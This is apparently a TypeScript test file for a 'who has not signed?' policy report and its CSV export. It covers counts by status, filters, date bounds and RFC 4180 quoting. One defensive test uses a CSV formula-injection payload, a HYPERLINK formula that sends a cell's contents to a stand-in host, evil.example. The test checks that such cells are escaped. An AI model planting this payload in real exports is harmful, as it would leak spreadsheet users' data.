// The "who has not signed?" report: counts by status across pages, the filters and date bounds, each row flattened, and its CSV.
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { NotFoundError } from '#shared/core/errors.ts';
import { assignmentIdFor } from '#shared/core/ids.ts';
import type { AssignmentStatus, PolicyVersion } from '#shared/core/model.ts';
import {
  makeReport,
  REPORT_FILTERS,
  type ReportFilter,
  type ReportRow,
  UNSIGNED_STATUSES,
} from '#shared/core/report.ts';
import { CSV_COLUMNS, csvOf } from '#shared/core/report-csv.ts';
import {
  anEvidence,
  anOnBehalfEvidence,
  aPolicy,
  aReportRow,
  aStarter,
  FakeClock,
  FakeStore,
  REPORT_CSV_HEADER,
  seedAssignment,
} from '../../../support/fakes.ts';

const NOW = '2026-11-26T10:00:00.000Z';

const HEADER = REPORT_CSV_HEADER;

/** A store holding `policy` (safe-internet-use v3 unless given), and a reporter over it at NOW. */
async function setup(policy: PolicyVersion = aPolicy()) {
  const store = new FakeStore();
  await store.putPolicyVersion(policy);
  return { store, policy, reporter: makeReport({ store, clock: new FakeClock(NOW) }) };
}

const assign = seedAssignment;

/** Runs the report and collects every page of rows it hands over. */
async function runReport(
  reporter: ReturnType<typeof makeReport>,
  filter: ReportFilter,
  range: { since?: Date; until?: Date } = {},
  policyId = 'safe-internet-use',
) {
  const pages: ReportRow[][] = [];
  const summary = await reporter.run(policyId, { filter, ...range }, (rows) => {
    pages.push(rows);
  });
  return { summary, pages, rows: pages.flat() };
}

/** One assignment of each status, made a day apart in this order, oldest first. */
const STATUSES: AssignmentStatus[] = [
  'pending',
  'acknowledged',
  'invited',
  'cancelled',
  'overdue',
  'acknowledged',
  'bounced',
];

async function oneOfEach(store: FakeStore) {
  for (const [i, status] of STATUSES.entries()) {
    await assign(store, `E${i}`, status, { createdAt: `2026-11-1${i}T09:00:00.000Z` });
  }
}

/**
 * A strict RFC 4180 reader (LF line ends, as csv-stringify writes them): a quote only opens a cell
 * or, doubled, stands for itself inside one; anything else is an error, so sloppy quoting fails.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let state: 'start' | 'plain' | 'quoted' | 'closed' = 'start';
  const endCell = () => {
    row.push(cell);
    cell = '';
    state = 'start';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (state === 'quoted') {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else state = 'closed';
    } else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else if (state === 'start' && c === '"') state = 'quoted';
    else if (state === 'closed' || c === '"' || c === '\r')
      throw new Error(`bad CSV at ${i}: ${JSON.stringify(text)}`);
    else {
      cell += c;
      state = 'plain';
    }
  }
  if (state === 'quoted') throw new Error('unterminated quote');
  if (state !== 'start' || row.length) throw new Error('the last line is not ended');
  return rows;
}

/** Where a column's cell is in a CSV line. */
const col = (key: keyof ReportRow) => CSV_COLUMNS.findIndex(([k]) => k === key);

/** A complete row, every field set, for the CSV tests. */
function aRow(overrides: Partial<ReportRow> = {}): ReportRow {
  return aReportRow({
    employeeId: 'E1001',
    department: 'Engineering',
    managerName: 'Grace Hopper',
    managerEmail: 'grace@example.org',
    status: 'acknowledged',
    daysWaiting: null,
    acknowledgedAt: '2026-11-24T09:59:00.000Z',
    typedName: 'Ada Lovelace',
    evidenceId: 'ev_1',
    ipAddress: '203.0.113.7',
    userAgent: 'Mozilla/5.0',
    tokenId: 'AAAAAAAAAAA',
    emailMessageId: 'ses-1',
    webhook: 'delivered',
    method: 'link',
    ...overrides,
  });
}

describe('makeReport', () => {
  it('counts every assignment by status across pages and lists the unsigned', async () => {
    // Prepare
    const { store, reporter } = await setup();
    store.pageSize = 2;
    await oneOfEach(store);

    // Act
    const { summary, pages, rows } = await runReport(reporter, 'unsigned');

    // Assess
    expect(summary).toEqual({
      policy: { policyId: 'safe-internet-use', version: 3, title: 'Safe internet use' },
      total: 7,
      byStatus: {
        pending: 1,
        invited: 1,
        overdue: 1,
        bounced: 1,
        declined: 0,
        acknowledged: 2,
        cancelled: 1,
      },
      signed: 2,
      unsigned: 4,
      listed: 4,
      dueForRenewal: 0,
      lapsed: 0,
    });
    // Index pages of two, read through; the rows listed in one batch.
    expect(pages.map((page) => page.map((r) => r.status))).toEqual([
      ['pending', 'invited', 'overdue', 'bounced'],
    ]);
    expect(rows.map((r) => r.employeeId)).toEqual(['E0', 'E2', 'E4', 'E6']);
  });

  it('keeps only pending, invited, overdue, bounced and declined by default', async () => {
    // Prepare
    const { store, reporter } = await setup();
    await oneOfEach(store);

    // Act
    const { rows } = await runReport(reporter, 'unsigned');

    // Assess
    expect(UNSIGNED_STATUSES).toEqual(['pending', 'invited', 'overdue', 'bounced', 'declined']);
    expect(rows.map((r) => r.status)).toEqual(['pending', 'invited', 'overdue', 'bounced']);
  });

  it('lists a row as the table has it now: one signed since the index was read is not listed as unsigned', async () => {
    // Prepare: the index still says invited (it follows the table within a second or so)
    const { store, reporter } = await setup();
    const signed = await assign(store, 'E1', 'acknowledged');
    const waiting = await assign(store, 'E2', 'invited');
    store.assignmentsOf = async function* () {
      yield [signed, waiting].map(({ assignmentId, starterId, policyVersion, createdAt }) => ({
        assignmentId,
        starterId,
        policyVersion,
        createdAt,
        status: 'invited' as const,
      }));
    };

    // Act
    const { rows, summary } = await runReport(reporter, 'unsigned');

    // Assess: counted from the index, listed from the table
    expect(summary.byStatus.invited).toBe(2);
    expect(rows.map((r) => r.employeeId)).toEqual(['E2']);
    expect(summary.listed).toBe(1);
  });

  it("lists every assignment, oldest first, for 'all'", async () => {
    // Prepare
    const { store, reporter } = await setup();
    store.pageSize = 3;
    await oneOfEach(store);

    // Act
    const { summary, rows } = await runReport(reporter, 'all');

    // Assess
    expect(rows.map((r) => r.status)).toEqual(STATUSES);
    expect(rows.map((r) => r.assignedAt)).toEqual(STATUSES.map((_, i) => `2026-11-1${i}T09:00:00.000Z`));
    expect(summary.listed).toBe(7);
    expect(summary.total).toBe(7);
  });

  it.each([
    ['pending', ['E0']],
    ['invited', ['E2']],
    ['overdue', ['E4']],
    ['bounced', ['E6']],
    ['acknowledged', ['E1', 'E5']],
    ['cancelled', ['E3']],
  ] as const)('lists only the %s for that status', async (status, employees) => {
    // Prepare
    const { store, reporter } = await setup();
    await oneOfEach(store);

    // Act
    const { summary, rows } = await runReport(reporter, status);

    // Assess
    expect(rows.map((r) => r.employeeId)).toEqual(employees);
    expect(rows.every((r) => r.status === status)).toBe(true);
    expect(summary.listed).toBe(employees.length);
    // The counts are of every assignment, whatever the filter.
    expect(summary.total).toBe(7);
  });

  it('accepts exactly the filters: unsigned, all and each status', () => {
    // Assess
    expect(REPORT_FILTERS).toEqual([
      'unsigned',
      'all',
      'pending',
      'invited',
      'overdue',
      'bounced',
      'declined',
      'acknowledged',
      'cancelled',
    ]);
  });

  it('counts and lists only the assignments made from since (inclusive) to until (exclusive)', async () => {
    // Prepare
    const { store, reporter } = await setup();
    await assign(store, 'E1', 'invited', { createdAt: '2026-10-31T23:59:59.999Z' });
    await assign(store, 'E2', 'invited', { createdAt: '2026-11-01T00:00:00.000Z' });
    await assign(store, 'E3', 'acknowledged', { createdAt: '2026-11-01T12:00:00.000Z' });
    await assign(store, 'E4', 'pending', { createdAt: '2026-11-01T23:59:59.999Z' });
    await assign(store, 'E5', 'pending', { createdAt: '2026-11-02T00:00:00.000Z' });
    const range = {
      since: new Date('2026-11-01T00:00:00.000Z'),
      until: new Date('2026-11-02T00:00:00.000Z'),
    };

    // Act
    const { summary, rows } = await runReport(reporter, 'all', range);

    // Assess
    expect(rows.map((r) => r.employeeId)).toEqual(['E2', 'E3', 'E4']);
    expect(summary.total).toBe(3);
    expect(summary.signed).toBe(1);
    expect(summary.unsigned).toBe(2);
  });

  it('bounds only one end when given only since or only until', async () => {
    // Prepare
    const { store, reporter } = await setup();
    await assign(store, 'E1', 'invited', { createdAt: '2026-10-31T23:59:59.999Z' });
    await assign(store, 'E2', 'invited', { createdAt: '2026-11-01T00:00:00.000Z' });
    const day = new Date('2026-11-01T00:00:00.000Z');

    // Act
    const since = await runReport(reporter, 'all', { since: day });
    const until = await runReport(reporter, 'all', { until: day });

    // Assess
    expect(since.rows.map((r) => r.employeeId)).toEqual(['E2']);
    expect(until.rows.map((r) => r.employeeId)).toEqual(['E1']);
  });

  it('counts whole days waiting since the invite, or since the assignment when not yet invited', async () => {
    // Prepare
    const { store, reporter } = await setup();
    // NOW is 2026-11-26T10:00:00.000Z.
    await assign(store, 'E1', 'invited', {
      createdAt: '2026-11-01T09:00:00.000Z',
      // A millisecond short of three days: two whole days.
      chase: { invitedAt: '2026-11-23T10:00:00.001Z', remindersSent: 1 },
    });
    await assign(store, 'E2', 'pending', { createdAt: '2026-11-19T10:00:00.000Z' });
    await assign(store, 'E3', 'overdue', {
      createdAt: '2026-11-02T09:00:00.000Z',
      chase: { invitedAt: '2026-11-16T10:00:00.000Z', remindersSent: 3 },
    });
    await assign(store, 'E4', 'bounced', {
      createdAt: '2026-11-26T09:59:00.000Z',
      bounce: { reason: 'bounced', email: 'ada@example.org', at: '2026-11-26T09:59:30.000Z' },
    });
    await assign(store, 'E5', 'acknowledged', {
      createdAt: '2026-11-03T09:00:00.000Z',
      chase: { invitedAt: '2026-11-03T10:00:00.000Z', remindersSent: 0 },
    });
    await assign(store, 'E6', 'cancelled', { createdAt: '2026-11-04T09:00:00.000Z' });

    // Act
    const { rows } = await runReport(reporter, 'all');

    // Assess
    expect(Object.fromEntries(rows.map((r) => [r.employeeId, r.daysWaiting]))).toEqual({
      E1: 2,
      E2: 7,
      E3: 10,
      E4: 0,
      E5: null,
      E6: null,
    });
  });

  it('flattens a signed assignment into a row carrying its evidence and deliveries', async () => {
    // Prepare
    const { store, reporter, policy } = await setup();
    const evidence = anEvidence(policy, {
      evidenceId: 'ev_42',
      acknowledgedAt: '2026-11-25T14:03:00.000Z',
      typedName: 'Ada K. Lovelace',
      policySha256: 'b'.repeat(64),
      ipAddress: '198.51.100.4',
      userAgent: 'Firefox/140',
      tokenId: 'tok_9',
      messageId: 'ses-9',
    });
    const assignment = await assign(
      store,
      'E1001',
      'acknowledged',
      {
        createdAt: '2026-11-20T09:00:00.000Z',
        chase: { invitedAt: '2026-11-20T09:15:00.000Z', remindersSent: 2 },
        ack: evidence,
        webhook: { state: 'delivered', attempts: 1, webhookId: 'wh_1' },
        xapi: { state: 'dead', attempts: 5, statementId: 'st_1' },
      },
      {
        starter: {
          department: 'Engineering',
          manager: { name: 'Grace Hopper', email: 'grace@example.org' },
          startDate: '2026-12-01',
        },
      },
    );

    // Act
    const { rows } = await runReport(reporter, 'acknowledged');

    // Assess
    expect(rows).toEqual([
      {
        assignmentId: assignment.assignmentId,
        employeeId: 'E1001',
        givenName: 'Ada',
        familyName: 'Lovelace',
        email: 'ada@example.org',
        department: 'Engineering',
        managerName: 'Grace Hopper',
        managerEmail: 'grace@example.org',
        startDate: '2026-12-01',
        policyId: 'safe-internet-use',
        policyVersion: 3,
        reason: 'starter',
        status: 'acknowledged',
        assignedAt: '2026-11-20T09:00:00.000Z',
        invitedAt: '2026-11-20T09:15:00.000Z',
        remindersSent: 2,
        daysWaiting: null,
        bounce: '',
        bouncedAt: '',
        acknowledgedAt: '2026-11-25T14:03:00.000Z',
        typedName: 'Ada K. Lovelace',
        evidenceId: 'ev_42',
        // The sha256 of the text that was signed, from the evidence.
        policySha256: 'b'.repeat(64),
        ipAddress: '198.51.100.4',
        userAgent: 'Firefox/140',
        tokenId: 'tok_9',
        emailMessageId: 'ses-9',
        webhook: 'delivered',
        xapi: 'dead',
        moodle: '',
        supersededByVersion: null,
        method: 'link',
        recordedBy: '',
        note: '',
        declinedAt: '',
        declineReason: '',
        signBy: '',
        renewsAt: '',
        renewal: '',
      } satisfies ReportRow,
    ]);
  });

  it('marks an agreement recorded on the person’s behalf: its method, recorder and note, and no link’s traces', async () => {
    // Prepare
    const { store, reporter, policy } = await setup();
    await assign(store, 'E1001', 'acknowledged', { ack: anOnBehalfEvidence(policy) });

    // Act
    const { rows } = await runReport(reporter, 'acknowledged');
    const csv = csvOf(rows, { header: false });

    // Assess
    expect(rows[0]).toMatchObject({
      method: 'on-behalf',
      recordedBy: 'Grace Hopper',
      note: 'Signed the paper form at induction on 23 November',
      typedName: 'Ada Lovelace',
      ipAddress: '',
      userAgent: '',
      tokenId: '',
      emailMessageId: '',
    });
    expect(csv.trimEnd().split(',').slice(-8, -5)).toEqual([
      'on-behalf',
      'Grace Hopper',
      'Signed the paper form at induction on 23 November',
    ]);
  });

  it('flattens an unsigned assignment with blank evidence and the bounce', async () => {
    // Prepare
    const { store, reporter } = await setup();
    const assignment = await assign(store, 'E1001', 'bounced', {
      createdAt: '2026-11-20T09:00:00.000Z',
      policySha256: 'c'.repeat(64),
      chase: { invitedAt: '2026-11-21T09:15:00.000Z', remindersSent: 0 },
      bounce: { reason: 'complained', email: 'ada@example.org', at: '2026-11-21T09:16:00.000Z' },
    });

    // Act
    const { rows } = await runReport(reporter, 'unsigned');

    // Assess
    expect(rows).toEqual([
      {
        assignmentId: assignment.assignmentId,
        employeeId: 'E1001',
        givenName: 'Ada',
        familyName: 'Lovelace',
        email: 'ada@example.org',
        department: '',
        managerName: '',
        managerEmail: '',
        startDate: '2026-12-01',
        policyId: 'safe-internet-use',
        policyVersion: 3,
        reason: 'starter',
        status: 'bounced',
        assignedAt: '2026-11-20T09:00:00.000Z',
        invitedAt: '2026-11-21T09:15:00.000Z',
        remindersSent: 0,
        daysWaiting: 5,
        bounce: 'complained',
        bouncedAt: '2026-11-21T09:16:00.000Z',
        acknowledgedAt: '',
        typedName: '',
        evidenceId: '',
        // Not signed: the sha256 of the version assigned.
        policySha256: 'c'.repeat(64),
        ipAddress: '',
        userAgent: '',
        tokenId: '',
        emailMessageId: '',
        webhook: '',
        xapi: '',
        moodle: '',
        supersededByVersion: null,
        method: '',
        recordedBy: '',
        note: '',
        declinedAt: '',
        declineReason: '',
        signBy: '',
        renewsAt: '',
        renewal: '',
      } satisfies ReportRow,
    ]);
  });

  it('gives blank starter fields when the starter record is missing', async () => {
    // Prepare
    const { store, reporter } = await setup();
    const assignment = await assign(store, 'E404', 'pending', {}, { starter: false });

    // Act
    const { rows } = await runReport(reporter, 'unsigned');

    // Assess
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      assignmentId: assignment.assignmentId,
      employeeId: '',
      givenName: '',
      familyName: '',
      email: '',
      department: '',
      managerName: '',
      managerEmail: '',
      startDate: '',
      status: 'pending',
      policyVersion: 3,
    });
  });

  it('lists a re-acknowledgement as its own row, for the later version, with its reason', async () => {
    // Prepare
    const v3 = aPolicy();
    const v4 = aPolicy({ version: 4, sha256: 'd'.repeat(64), title: 'Safe internet use (2027)' });
    const { store, reporter } = await setup(v3);
    await store.putPolicyVersion(v4);
    const first = await assign(store, 'E1', 'acknowledged', { createdAt: '2026-11-01T09:00:00.000Z' });
    const again = await assign(
      store,
      'E1',
      'invited',
      {
        assignmentId: assignmentIdFor('E1', 'safe-internet-use', 4),
        reason: 'reacknowledge',
        createdAt: '2026-11-25T09:00:00.000Z',
        chase: { invitedAt: '2026-11-25T09:10:00.000Z', remindersSent: 0 },
      },
      { policy: v4 },
    );

    // Act
    const unsigned = await runReport(reporter, 'unsigned');
    const all = await runReport(reporter, 'all');

    // Assess
    expect(unsigned.rows).toHaveLength(1);
    expect(unsigned.rows[0]).toMatchObject({
      assignmentId: again.assignmentId,
      employeeId: 'E1',
      policyVersion: 4,
      reason: 'reacknowledge',
      policySha256: 'd'.repeat(64),
      daysWaiting: 1,
    });
    expect(all.rows.map((r) => [r.assignmentId, r.policyVersion, r.reason, r.status])).toEqual([
      [first.assignmentId, 3, 'starter', 'acknowledged'],
      [again.assignmentId, 4, 'reacknowledge', 'invited'],
    ]);
    // The summary names the newest version.
    expect(all.summary.policy).toEqual({
      policyId: 'safe-internet-use',
      version: 4,
      title: 'Safe internet use (2027)',
    });
    // One person, counted by their current ask: not signed version 4.
    expect(all.summary).toMatchObject({ total: 1, signed: 0, unsigned: 1 });
    expect(all.summary.byStatus).toMatchObject({ acknowledged: 0, invited: 1 });
  });

  it('counts a person once, by their newest ask; an ask withdrawn for a newer version is history', async () => {
    // Prepare: E1 signed v3 and is asked v4; E2 was moved from v3 to v4; E3 left
    const v3 = aPolicy();
    const v4 = aPolicy({ version: 4, sha256: 'd'.repeat(64) });
    const { store, reporter } = await setup(v3);
    await store.putPolicyVersion(v4);
    await assign(store, 'E1', 'acknowledged', { createdAt: '2026-11-01T09:00:00.000Z' });
    await assign(
      store,
      'E1',
      'invited',
      { assignmentId: assignmentIdFor('E1', 'safe-internet-use', 4), reason: 'reacknowledge' },
      { policy: v4 },
    );
    const moved = assignmentIdFor('E2', 'safe-internet-use', 4);
    await assign(store, 'E2', 'cancelled', {
      createdAt: '2026-11-02T09:00:00.000Z',
      supersededBy: { assignmentId: moved, version: 4 },
    });
    await assign(
      store,
      'E2',
      'invited',
      { assignmentId: moved, createdAt: '2026-11-02T09:00:00.000Z' },
      { policy: v4 },
    );
    await assign(store, 'E3', 'cancelled', { createdAt: '2026-11-03T09:00:00.000Z' });

    // Act
    const unsigned = await runReport(reporter, 'unsigned');
    const cancelled = await runReport(reporter, 'cancelled');
    const all = await runReport(reporter, 'all');

    // Assess
    expect(unsigned.summary).toMatchObject({
      total: 3,
      signed: 0,
      unsigned: 2,
      byStatus: { invited: 2, cancelled: 1, acknowledged: 0 },
    });
    expect(unsigned.rows.map((r) => [r.employeeId, r.policyVersion])).toEqual([
      ['E2', 4],
      ['E1', 4],
    ]);
    expect(cancelled.rows.map((r) => r.employeeId)).toEqual(['E3']);
    expect(all.rows).toHaveLength(5);
  });

  it('reads the rows listed a hundred at a time', async () => {
    // Prepare
    const { store, reporter } = await setup();
    store.pageSize = 30;
    for (let i = 0; i < 250; i++) {
      const createdAt = new Date(Date.parse('2026-11-01T00:00:00.000Z') + i * 60_000).toISOString();
      await assign(store, `E${String(i).padStart(3, '0')}`, 'invited', { createdAt });
    }

    // Act
    const { pages, summary } = await runReport(reporter, 'unsigned');

    // Assess
    expect(pages.map((page) => page.length)).toEqual([100, 100, 50]);
    expect(summary.listed).toBe(250);
  });

  it('fetches starters only for the rows a page keeps, and not at all for a page it keeps none of', async () => {
    // Prepare
    const { store, reporter } = await setup();
    store.pageSize = 2;
    await assign(store, 'E1', 'acknowledged', { createdAt: '2026-11-01T09:00:00.000Z' });
    await assign(store, 'E2', 'acknowledged', { createdAt: '2026-11-02T09:00:00.000Z' });
    await assign(store, 'E3', 'invited', { createdAt: '2026-11-03T09:00:00.000Z' });
    await assign(store, 'E4', 'cancelled', { createdAt: '2026-11-04T09:00:00.000Z' });
    const getStarters = vi.spyOn(store, 'getStarters');

    // Act
    const { rows } = await runReport(reporter, 'unsigned');

    // Assess
    expect(rows.map((r) => r.employeeId)).toEqual(['E3']);
    expect(getStarters).toHaveBeenCalledTimes(1);
    expect(getStarters).toHaveBeenCalledWith([aStarter({ employeeId: 'E3' }).starterId]);
  });

  it('counts only the assignments of the policy asked about', async () => {
    // Prepare
    const { store, reporter } = await setup();
    const other = aPolicy({ policyId: 'data-protection', title: 'Data protection' });
    await store.putPolicyVersion(other);
    await assign(store, 'E1', 'invited');
    await assign(store, 'E2', 'invited', {}, { policy: other });
    await assign(store, 'E3', 'acknowledged', {}, { policy: other });

    // Act
    const { summary, rows } = await runReport(reporter, 'all');

    // Assess
    expect(summary.total).toBe(1);
    expect(rows.map((r) => [r.employeeId, r.policyId])).toEqual([['E1', 'safe-internet-use']]);
  });

  it('reports zero of everything for a published policy with no assignments', async () => {
    // Prepare
    const { reporter } = await setup();

    // Act
    const { summary, pages } = await runReport(reporter, 'unsigned');

    // Assess
    expect(pages).toEqual([]);
    expect(summary).toMatchObject({
      total: 0,
      signed: 0,
      unsigned: 0,
      listed: 0,
      byStatus: {
        pending: 0,
        invited: 0,
        overdue: 0,
        bounced: 0,
        declined: 0,
        acknowledged: 0,
        cancelled: 0,
      },
    });
  });

  it('throws policy.not_found for a policy never published, handing over no rows', async () => {
    // Prepare
    const { store, reporter } = await setup();
    await assign(store, 'E1', 'invited', { policyId: 'ghost' });
    const onRows = vi.fn();

    // Act
    const run = reporter.run('ghost', { filter: 'all' }, onRows);

    // Assess
    await expect(run).rejects.toThrow(NotFoundError);
    await expect(run).rejects.toMatchObject({
      code: 'policy.not_found',
      message: 'No policy ghost has been published.',
    });
    expect(onRows).not.toHaveBeenCalled();
  });
});

describe('csvOf', () => {
  it('writes the header names in their stable order', () => {
    // Act
    const csv = csvOf([], { header: true });

    // Assess
    expect(CSV_COLUMNS.map(([, name]) => name).join(',')).toBe(HEADER);
    expect(csv).toBe(`${HEADER}\n`);
  });

  it('writes each row in column order, a null as an empty cell, each line ended', () => {
    // Prepare
    const row = aRow({ daysWaiting: null, remindersSent: 0 });

    // Act
    const csv = csvOf(
      [row, aRow({ assignmentId: 'asg_2', status: 'invited', daysWaiting: 4, supersededByVersion: 2 })],
      {
        header: false,
      },
    );

    // Assess
    expect(csv).toBe(
      'asg_1,E1001,Ada,Lovelace,ada@example.org,Engineering,Grace Hopper,grace@example.org,2026-12-01,' +
        'safe-internet-use,3,starter,acknowledged,2026-11-20T09:00:00.000Z,2026-11-20T09:15:00.000Z,0,,,,' +
        `2026-11-24T09:59:00.000Z,Ada Lovelace,ev_1,${'a'.repeat(64)},203.0.113.7,Mozilla/5.0,AAAAAAAAAAA,ses-1,delivered,,,,link,,,,,,,\n` +
        'asg_2,E1001,Ada,Lovelace,ada@example.org,Engineering,Grace Hopper,grace@example.org,2026-12-01,' +
        'safe-internet-use,3,starter,invited,2026-11-20T09:00:00.000Z,2026-11-20T09:15:00.000Z,1,4,,,' +
        `2026-11-24T09:59:00.000Z,Ada Lovelace,ev_1,${'a'.repeat(64)},203.0.113.7,Mozilla/5.0,AAAAAAAAAAA,ses-1,delivered,,,2,link,,,,,,,\n`,
    );
  });

  it('quotes a cell holding a comma, a quote or a line break, doubling its quotes (RFC 4180)', () => {
    // Prepare
    const row = aRow({
      familyName: 'Lovelace, Countess',
      givenName: 'Ada "Augusta"',
      department: 'Research\nand Development',
      userAgent: 'Agent\r\nX',
    });

    // Act
    const csv = csvOf([row], { header: false });

    // Assess
    expect(
      csv.startsWith('asg_1,E1001,"Ada ""Augusta""","Lovelace, Countess",ada@example.org,"Research\nand'),
    ).toBe(true);
    expect(csv).toContain(',"Agent\r\nX",');
    const [cells] = parseCsv(csv);
    expect(cells?.[col('givenName')]).toBe('Ada "Augusta"');
    expect(cells?.[col('familyName')]).toBe('Lovelace, Countess');
    expect(cells?.[col('department')]).toBe('Research\nand Development');
    expect(cells?.[col('userAgent')]).toBe('Agent\r\nX');
  });

  it('prefixes with a quote mark a cell a spreadsheet would run as a formula', () => {
    // Prepare
    const row = aRow({
      assignmentId: '-6eNF0abc',
      typedName: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      givenName: '+44 Ada',
      familyName: '@SUM(A1)',
      department: '\tTabbed',
      managerName: 'Grace -Hopper',
    });

    // Act
    const [cells] = parseCsv(csvOf([row], { header: false }));

    // Assess
    expect(cells?.[col('assignmentId')]).toBe("'-6eNF0abc");
    expect(cells?.[col('typedName')]).toBe('\'=HYPERLINK("https://evil.example/?d="&A1,"Click")');
    expect(cells?.[col('givenName')]).toBe("'+44 Ada");
    expect(cells?.[col('familyName')]).toBe("'@SUM(A1)");
    expect(cells?.[col('department')]).toBe("'\tTabbed");
    // Only the first character matters; numbers are never touched.
    expect(cells?.[col('managerName')]).toBe('Grace -Hopper');
    expect(cells?.[col('policyVersion')]).toBe('3');
  });

  it('begins with a byte-order mark only when asked', () => {
    // Act
    const withBom = csvOf([aRow()], { header: true, bom: true });
    const without = csvOf([aRow()], { header: true });
    const explicitlyWithout = csvOf([aRow()], { header: true, bom: false });

    // Assess
    expect(withBom.startsWith(`\uFEFF${HEADER}\n`)).toBe(true);
    expect(without.startsWith(`${HEADER}\n`)).toBe(true);
    expect(explicitlyWithout).toBe(without);
    expect(withBom).toBe(`\uFEFF${without}`);
  });

  it('writes only the header for no rows, and nothing without it', () => {
    // Act
    const headerOnly = csvOf([], { header: true });
    const nothing = csvOf([], { header: false });

    // Assess
    expect(headerOnly).toBe(`${HEADER}\n`);
    expect(nothing).toBe('');
  });

  it('reads back every name exactly, formulas behind a quote mark (property)', () => {
    // Prepare
    const FORMULA_START = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
    const tricky = fc.constantFrom(',', '"', '\n', '\r', "'", ' ', ...FORMULA_START);
    const text = fc.string({
      unit: fc.oneof(tricky, fc.string({ minLength: 1, maxLength: 1, unit: 'binary' })),
    });
    const names = fc.record({
      givenName: text,
      familyName: text,
      typedName: text,
      department: text,
      managerName: text,
    });
    // csv-stringify's escape_formulas also covers the full-width forms that Apple Numbers normalises.
    const escaped = (value: string) => (FORMULA_START.includes(value[0] as string) ? `'${value}` : value);

    // Act & Assess
    fc.assert(
      fc.property(names, (fields) => {
        const rows = parseCsv(csvOf([aRow(fields)], { header: true }));
        expect(rows).toHaveLength(2);
        expect(rows[0]?.join(',')).toBe(HEADER);
        expect(rows[1]).toHaveLength(CSV_COLUMNS.length);
        for (const [key, value] of Object.entries(fields)) {
          expect(rows[1]?.[col(key as keyof ReportRow)]).toBe(escaped(value));
        }
        expect(rows[1]?.[col('evidenceId')]).toBe('ev_1');
      }),
    );
  });
});
